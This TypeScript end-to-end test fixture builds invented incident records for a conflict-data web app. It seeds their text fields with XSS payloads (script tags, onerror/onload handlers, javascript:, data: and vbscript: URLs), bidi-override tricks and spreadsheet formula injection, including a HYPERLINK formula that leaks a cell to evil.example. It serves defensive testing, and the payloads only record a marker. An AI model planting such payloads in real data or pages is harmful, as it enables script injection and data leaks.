// The hostile dataset of tests/e2e/hostile-data.test.ts: invented incidents whose text fields carry payloads, and a
// temporary copy of the built app that serves them (built with the project's own Parquet writer, artifact build and
// view-asset build). No real data is involved.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildArtifact } from '../../scripts/lib/artifact-build';
import { IncidentParquetWriter } from '../../scripts/lib/incident-parquet-writer';
import { buildViewAssets } from '../../scripts/build-view-assets';
import type { Incident } from '../../src/lib/data/schema';
import { SYRIA_PCODES } from '../../src/lib/data/gazetteer';
import { copyBuild } from './hostile-support';

/** Payload code: if it ever runs, it leaves its tag in window.__pwned (and the tests look for it). */
export const PWN = (tag: string) => `window.__pwned=(window.__pwned||[]).concat('${tag}')`;
export const HUGE = `${'Long report text with <b>markup</b> & entities &amp; "quotes" '.repeat(1_700)}<script>${PWN('huge')}</script>`;

const base: Incident = {
	incident_id: '',
	source_dataset: 'csv',
	source_record_id: '',
	event_date: '2023-06-01',
	date_precision: 'day',
	date_end: null,
	country_iso3: 'SYR',
	country: 'Syria',
	admin1: 'Aleppo',
	admin1_pcode: 'SY02',
	admin2: null,
	admin2_pcode: null,
	location: null,
	latitude: 36.2,
	longitude: 37.15,
	geo_precision: 'town',
	event_type: 'Explosions/Remote violence',
	sub_event_type: null,
	attack_type: 'Bombing/Explosion',
	target_type: 'Private Citizens & Property',
	perpetrator: 'Group Alpha',
	target_actor: null,
	killed: 1,
	killed_low: null,
	killed_high: null,
	injured: null,
	summary: 'An ordinary report.',
	source_name: 'Invented Monitor',
	source_url: 'https://example.org/report/0',
	raw_date: null,
	raw_admin1: null,
	raw_attack_type: null,
	raw_target_type: null
};

const row = (n: string, patch: Partial<Incident>): Incident => ({ ...base, incident_id: `csv:${n}`, source_record_id: n, ...patch });

/** The hostile rows, and whether each one's source URL may become a link (only http and https ones). */
export const HOSTILE: { row: Incident; linked: boolean }[] = [
	{
		row: row('h1', {
			event_date: '2024-03-01',
			summary: `<script>${PWN('summary')}</script><b>bold</b> <img src=x data-pwn onerror="${PWN('summary-img')}">`,
			location: `<img src=x data-pwn onerror="${PWN('location')}">`,
			perpetrator: `<svg data-pwn onload="${PWN('perp')}"></svg>`,
			source_url: `javascript:${PWN('url')}`
		}),
		linked: false
	},
	{
		row: row('h2', {
			event_date: '2024-02-28',
			summary: `**bold** [click me](javascript:${PWN('md')}) ![pixel](https://evil.example/pixel.png) <a href="javascript:${PWN('a')}">x</a>`,
			target_actor: `"><iframe data-pwn src="javascript:${PWN('iframe')}"></iframe>`,
			source_url: `data:text/html,<script>${PWN('data-url')}</script>`
		}),
		linked: false
	},
	{
		row: row('h3', { event_date: '2024-02-27', summary: HUGE, source_url: 'https://example.org/report?id=1&x=<script>' }),
		linked: true
	},
	{
		row: row('h4', {
			event_date: '2024-02-26',
			summary: 'هجوم على حاجز \u202Egnp.exe\u202C قرب حلب، وأُصيب ٣ مدنيين',
			location: '\u202Eحلب',
			perpetrator: 'مجموعة \u2066النور\u2069',
			source_url: ` JaVaScRiPt:${PWN('case')}`
		}),
		linked: false
	},
	{
		row: row('h5', {
			event_date: '2024-02-25',
			summary: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
			location: '+1',
			admin2: '-1',
			source_name: '@SUM(1+1)',
			raw_date: '\tTAB',
			raw_admin1: '\rCR',
			target_actor: '=1+2',
			source_url: `http://example.org/a"onmouseover="${PWN('attr')}`
		}),
		linked: true
	},
	{ row: row('h6', { event_date: '2024-02-24', source_url: 'vbscript:msgbox(1)' }), linked: false },
	{ row: row('h7', { event_date: '2024-02-23', source_url: '//evil.example/x' }), linked: false },
	// Outside the gazetteer: the province name becomes a timeline series and a province-list entry.
	...Array.from({ length: 6 }, (_, i) => ({
		row: row(`h8-${i}`, {
			event_date: `2024-02-${String(10 + i).padStart(2, '0')}`,
			country: `<img src=x data-pwn onerror="${PWN('country')}">`,
			country_iso3: null,
			admin1: `<b data-pwn onmouseover="${PWN('admin1')}">Elsewhere</b>`,
			admin1_pcode: null,
			source_url: 'https://example.org/ok'
		}),
		linked: true
	}))
];

/** Ordinary rows so that the charts have something to draw. */
export const ORDINARY: Incident[] = Array.from({ length: 30 }, (_, i) =>
	row(`o${i}`, {
		event_date: `2023-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 27) + 1).padStart(2, '0')}`,
		admin1_pcode: SYRIA_PCODES[i % 14],
		admin1: null,
		killed: i % 5,
		source_url: `https://example.org/report/${i}`
	})
);

export const ALL = [...HOSTILE.map((h) => h.row), ...ORDINARY];
/** Writes the dataset (or other rows) and a copy of `buildDir` serving it into a new temporary folder; returns the
 *  folders. */
export async function buildHostileSite(buildDir: string, rows: readonly Incident[] = ALL): Promise<{ work: string; site: string }> {
	const work = mkdtempSync(join(tmpdir(), 'rasd-hostile-data-'));
	const site = copyBuild(buildDir, join(work, 'site'));
	const parquet = join(work, 'incidents.parquet');
	const writer = await IncidentParquetWriter.open(parquet, { merge: false, dedupe: false });
	for (const r of rows) await writer.add(r);
	await writer.finish();
	const artifact = join(site, 'data', 'rasd.duckdb');
	rmSync(artifact, { force: true }); // the copy's symlink to the shared artifact, not the artifact itself
	await buildArtifact({ input: parquet, output: artifact, allowMixed: true });
	await buildViewAssets({ artifact, outDir: join(site, 'data'), log: () => undefined });
	return { work, site };
}
